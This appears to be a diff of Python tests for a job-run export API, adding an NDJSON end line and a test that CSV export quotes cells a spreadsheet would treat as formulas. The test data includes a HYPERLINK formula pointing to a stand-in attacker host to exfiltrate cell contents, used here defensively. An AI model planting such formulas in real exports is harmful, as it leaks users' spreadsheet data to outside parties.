@@ -79,7 +79,8 @@ async def test_ndjson_export_holds_the_run_then_each_job_followed_by_its_events(
               if line["kind"] == "event"]
     assert sorted(jobs, key=str) == sorted(expected["jobs"], key=str)
     assert sorted(events, key=str) == sorted(expected["events"], key=str)
-    kinds = [(line["kind"], line.get("job_uuid")) for line in lines[1:]]
+    assert lines[-1] == {"kind": "end", "runs": 1, "jobs": 2, "events": 5}
+    kinds = [(line["kind"], line.get("job_uuid")) for line in lines[1:-1]]
     for position, (kind, job_uuid) in enumerate(kinds):
         if kind == "event":  # every event comes after its job
             assert ("job", job_uuid) in kinds[:position]
@@ -99,7 +100,28 @@ async def test_csv_export_is_one_table_with_a_kind_column_and_parses_back(client
                                    "event_status")} for row in rows if row["kind"] == "event"]
     assert sorted(events, key=str) == sorted(expected["events"], key=str)
     assert {row["job_uuid"] for row in rows if row["kind"] == "job"} == {"job-a", "job-b"}
-    assert all(row["run_uuid"] == "" for row in rows if row["kind"] == "event")
+    assert {row["run_uuid"] for row in rows} == {"run-x"}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+async def test_csv_cells_a_spreadsheet_would_read_as_formulas_start_with_a_quote(client):
+    await post(client, "/api/jobs/", job_body("-job", "run-x", job_associated_agent="@agent"))
+    for n, content in enumerate([*FORMULAS, "plain", "a=b"]):
+        await post(client, "/api/events/", event_body(f"e{n}", "-job", event_content=content))
+    response = await client.get("/api/runs/run-x/export?format=csv")
+    rows = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
+
+    job = next(row for row in rows if row["kind"] == "job")
+    assert (job["job_uuid"], job["job_associated_agent"]) == ("'-job", "'@agent")
+    contents = {row["event_content"] for row in rows if row["kind"] == "event"}
+    assert contents == {*("'" + formula for formula in FORMULAS), "plain", "a=b"}
+    assert {row["job_uuid"] for row in rows if row["kind"] == "event"} == {"'-job"}
+    # NDJSON is data for a program, not a spreadsheet: the values as stored.
+    lines = (await (await client.get("/api/runs/run-x/export")).text()).splitlines()
+    assert {json.loads(line).get("event_content") for line in lines} >= set(FORMULAS)
 
 
 async def test_export_of_an_unknown_run_is_a_404_json_error(client):
@@ -167,7 +189,7 @@ async def test_exporting_a_run_of_many_events_keeps_the_server_memory_flat(big_s
                     peak = max(peak, resident_bytes(pid))
     print(f"\nexport of {MANY_EVENTS} events: {time.monotonic() - started:.1f} s, server RSS "
           f"{before / MB:.0f} MB before, {peak / MB:.0f} MB at most during")
-    assert lines == 1 + 10 + MANY_EVENTS
+    assert lines == 1 + 10 + MANY_EVENTS + 1  # the run, its jobs and events, the end line
     assert peak - before < RSS_GROWTH_LIMIT
 
 
@@ -184,7 +206,7 @@ def test_armada_export_writes_the_file_to_stdout(tmp_path: Path):
             assert done.returncode == 0, done.stderr
             text = done.stdout.decode()
             if kind == "ndjson":
-                assert len([json.loads(line) for line in text.splitlines()]) == 1 + 2 + 30
+                assert len([json.loads(line) for line in text.splitlines()]) == 1 + 2 + 30 + 1
             else:
                 assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 1 + 2 + 30
         missing = subprocess.run(
